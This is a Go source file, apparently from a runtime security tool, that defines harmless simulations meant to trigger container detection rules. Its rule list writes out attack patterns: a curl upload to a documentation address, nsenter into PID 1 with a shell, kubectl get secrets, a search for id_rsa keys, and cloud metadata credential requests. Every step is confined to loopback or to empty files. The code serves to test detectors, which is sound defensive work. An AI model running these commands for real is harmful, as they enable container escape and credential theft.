package simulate

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// inContainer makes a simulation of one step in a container.
func inContainer(rule, does, step string, args []string, c container) Simulation {
	return Simulation{Rule: rule, Does: does, Container: true, Needs: []Need{Root, Runc}, run: func(e *env) error { return c.run(e, step, args...) }}
}

// programInContainer makes a simulation that starts a program in a container: one of that name that does nothing.
func programInContainer(rule, path string, argv ...string) Simulation {
	return inContainer(rule, "Starts a program in a container that is called "+path+" and does nothing.",
		"exec", append([]string{path}, argv...), container{programs: []string{path}})
}

// connects makes a simulation that connects to an address in a container: its own loopback interface has it.
func connects(rule, ip, port string) Simulation {
	return inContainer(rule, "Connects to "+ip+" port "+port+" in a container whose only network is its own loopback.",
		"connect", []string{ip, port}, container{})
}

// shellPath is where a container has this binary under a shell's name.
const shellPath = "/bin/sh"

var containerSimulations = []Simulation{
	{
		Rule: "container_runtime_socket", Does: "Connects from a container to a mounted socket named docker.sock, which a listener of its own serves.",
		Container: true, Needs: []Need{Root, Runc},
		run: func(e *env) error {
			path := filepath.Join(e.dir, "docker.sock")
			l, err := (&net.ListenConfig{}).Listen(e.ctx, "unix", path)
			if err != nil {
				return err
			}
			defer l.Close()
			return container{binds: map[string]string{"/run/docker.sock": path}}.run(e, "connect-unix", "/run/docker.sock")
		},
	},
	inContainer("cgroup_release_agent", "Writes a file of its own named release_agent in a container.",
		"write-file", []string{"/tmp/cgroup/release_agent"}, container{files: map[string]string{"/tmp/cgroup/": ""}}),
	inContainer("kernel_helper_overwrite", "Opens /proc/sys/kernel/core_pattern for writing in a container, and writes nothing.",
		"open-for-writing", []string{"/proc/sys/kernel/core_pattern"}, container{}),
	inContainer("container_mounts_device", "Tries to mount a device that does not exist in a container.",
		"mount-absent-device", nil, container{}),
	inContainer("container_namespace_change", "Enters the UTS namespace that it is already in, in a container.",
		"setns", nil, container{}),
	connects("cloud_metadata_access", "169.254.169.254", "80"),
	inContainer("cloud_credentials_requested", "Asks 169.254.169.254, which is its own address, for credentials in a container whose only network is its own loopback.",
		"request", []string{"169.254.169.254", "/latest/meta-data/iam/security-credentials/"}, container{}),
	inContainer("tunnel_domain_lookup", "Asks its own loopback for a name below interact.sh in a container that has no other network.",
		"ask", []string{"simulation.interact.sh", "A"}, container{}),
	inContainer("dynamic_dns_lookup", "Asks its own loopback for a name below duckdns.org in a container that has no other network.",
		"ask", []string{"simulation.duckdns.org", "A"}, container{}),
	connects("encrypted_dns_in_container", "203.0.113.1", "853"), // TEST-NET-3, RFC 5737
	inContainer("program_fetched_from_bare_address", "Asks 203.0.113.1, which is its own address, for a script in a container whose only network is its own loopback.",
		"request", []string{"203.0.113.1", "/simulation.sh"}, container{}),
	inContainer("attack_tool_request", "Sends a request that names sqlmap to itself in a container whose only network is its own loopback.",
		"request", []string{"192.0.2.1", "/", "sqlmap/1.8 (simulation)"}, container{}),
	inContainer("exploit_request", "Sends a request for a path with /../ to itself in a container whose only network is its own loopback.",
		"request", []string{"192.0.2.1", "/simulation/../../etc/hostname"}, container{}),
	inContainer("web_shell_request", "Asks itself for a file called c99.php in a container whose only network is its own loopback.",
		"request", []string{"192.0.2.1", "/simulation/c99.php"}, container{}),
	connects("kubernetes_api_contact", "10.96.0.1", "443"),
	connects("ssh_from_container", "192.0.2.1", "22"), // TEST-NET-1, RFC 5737
	inContainer("container_device_node", "Makes a node for the device 0:0, which does not exist, in a container.",
		"mknod", []string{"/tmp/simulation"}, container{}),
	inContainer("packet_socket_in_container", "Opens a packet socket in a container whose only network is its own loopback, and closes it.",
		"packet-socket", nil, container{}),
	inContainer("container_capability_use", "Enters the UTS namespace that it is already in, in a container, which needs CAP_SYS_ADMIN.",
		"setns", nil, container{}),
	inContainer("executable_written_in_container", "Writes a program that does nothing in a container.",
		"write-program", []string{"/tmp/simulation"}, container{}),
	inContainer("new_executable_in_container", "Writes a program that does nothing in a container, and runs it.",
		"write-and-run", []string{"/tmp/simulation"}, container{}),
	inContainer("kernel_symbols_read", "Opens /proc/kallsyms for reading in a container, and reads nothing.",
		"open-for-reading", []string{"/proc/kallsyms"}, container{}),
	programInContainer("upload_from_container", "/usr/bin/curl", "curl", "-T", "/tmp/simulation", "http://203.0.113.1/"),
	inContainer("kernel_memory_read", "Makes and opens a file of its own named /dev/kmem in a container.",
		"write-file", []string{"/dev/kmem"}, container{}),
	inContainer("container_runtime_overwrite", "Writes a file of its own named /usr/sbin/runc in a container.",
		"write-file", []string{"/usr/sbin/runc"}, container{files: map[string]string{"/usr/sbin/": ""}}),
	inContainer("process_environment_read", "Opens the environment of its parent in a container, and does not read it.",
		"child", []string{"open-for-reading", "/proc/1/environ"}, container{}),
	inContainer("host_root_through_proc", "Opens a file of its own through /proc/1/root in a container.",
		"child", []string{"open-for-reading", "/proc/1/root/etc/hostname"}, container{files: map[string]string{"/etc/hostname": ""}}),
	inContainer("service_account_token_read", "Opens an empty file in a container that lies where a pod has its token.",
		"open-for-reading", []string{"/run/secrets/kubernetes.io/serviceaccount/token"}, container{files: map[string]string{"/run/secrets/kubernetes.io/serviceaccount/token": ""}}),
	inContainer("file_handle_opened_in_container", "Asks for a file by its handle in a container, at a descriptor that is not open.",
		"open-by-handle", nil, container{}),
	inContainer("container_mounts_filesystem", "Mounts an empty file system in a container, and takes it away.",
		"cover", []string{"/tmp/simulation"}, container{files: map[string]string{"/tmp/simulation/": ""}}),
	inContainer("sensitive_host_path_mounted", "Starts a container that has /etc of the host, read-only, and does nothing.",
		"nothing", nil, container{readOnly: map[string]string{"/host/etc": "/etc"}}),
	inContainer("container_reads_disk", "Makes and opens a file of its own named /dev/sdsimulation in a container.",
		"write-file", []string{"/dev/sdsimulation"}, container{}),
	programInContainer("network_tool_in_container", "/usr/bin/nmap", "nmap", "-sS", "127.0.0.1"),
	programInContainer("package_manager_in_container", "/sbin/apk", "apk", "add", "simulation"),
	programInContainer("compiler_in_container", "/usr/bin/gcc", "gcc", "simulation.c"),
	programInContainer("container_client_in_container", "/usr/local/bin/kubectl", "kubectl", "get", "secrets"),
	programInContainer("secret_search", "/usr/bin/find", "find", "/nothing", "-name", "id_rsa*"),
	programInContainer("execution_from_temporary_directory", "/tmp/simulation", "simulation"),
	programInContainer("nsenter_in_container", "/usr/bin/nsenter", "nsenter", "-t", "1", "-m", "sh"),
	inContainer("shell_in_container", "Starts a program named /bin/sh on a terminal in a container.",
		"shell-on-terminal", nil, container{links: []string{shellPath}}),
}

func stepConnectUnix(args []string) error {
	c, err := (&net.Dialer{}).DialContext(context.Background(), "unix", args[0])
	if err != nil {
		return err
	}
	return c.Close()
}

func stepWriteFile(args []string) error {
	return os.WriteFile(args[0], []byte("# written by a simulation\n"), 0o644)
}

// open opens and closes a file, and neither reads nor writes it.
func open(path string, flag int) error {
	f, err := os.OpenFile(path, flag, 0)
	if err != nil {
		return err
	}
	return f.Close()
}

func stepMountAbsentDevice([]string) error {
	if err := os.Mkdir("/tmp/disk", 0o755); err != nil {
		return err
	}
	err := unix.Mount("/dev/tocsin-simulation", "/tmp/disk", "ext4", 0, "")
	if err == nil {
		return errors.New("a device that does not exist was mounted")
	}
	if !errors.Is(err, unix.ENOENT) && !errors.Is(err, unix.ENODEV) { // ENODEV: no ext4 in this kernel
		return fmt.Errorf("mount: %w", err)
	}
	return nil
}

func stepOpenByHandle([]string) error {
	if _, err := unix.OpenByHandleAt(-1, unix.NewFileHandle(1, make([]byte, 8)), unix.O_RDONLY); err == nil {
		return errors.New("a file was opened at a descriptor that is not open")
	}
	return nil
}

func stepSetns([]string) error {
	fd, err := unix.Open("/proc/self/ns/uts", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("open namespace: %w", err)
	}
	defer unix.Close(fd)
	return unix.Setns(fd, unix.CLONE_NEWUTS)
}

func stepConnect(args []string) error {
	if err := addLoopback(args[0]); err != nil {
		return err
	}
	_, _, err := connected(args[0] + ":" + args[1])
	return err
}

func stepMknod(args []string) error {
	if err := unix.Mknod(args[0], unix.S_IFBLK|0o600, 0); err != nil {
		return fmt.Errorf("mknod: %w", err)
	}
	return nil
}

func stepPacketSocket([]string) error {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0) // protocol 0: it receives nothing
	if err != nil {
		return fmt.Errorf("socket: %w", err)
	}
	return unix.Close(fd)
}

// stepShellOnTerminal starts /bin/sh, which is this binary, with a pseudo-terminal as its input, as the user when one is
// given. See pty(7).
func stepShellOnTerminal(args []string) error {
	ptmx, err := os.OpenFile("/dev/ptmx", os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		return err
	}
	defer ptmx.Close()
	var unlock, n int32
	for _, r := range []struct {
		request uintptr
		arg     *int32
	}{{unix.TIOCSPTLCK, &unlock}, {unix.TIOCGPTN, &n}} {
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, ptmx.Fd(), r.request, uintptr(unsafe.Pointer(r.arg))); errno != 0 {
			return fmt.Errorf("make terminal: %w", errno)
		}
	}
	tty, err := os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		return err
	}
	defer tty.Close()
	c := command(shellPath, "nothing")
	c.Stdin = tty
	if len(args) > 0 {
		user, err := strconv.ParseUint(args[0], 10, 32)
		if err != nil {
			return err
		}
		c.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(user), Gid: uint32(user)}}
	}
	return c.Run()
}
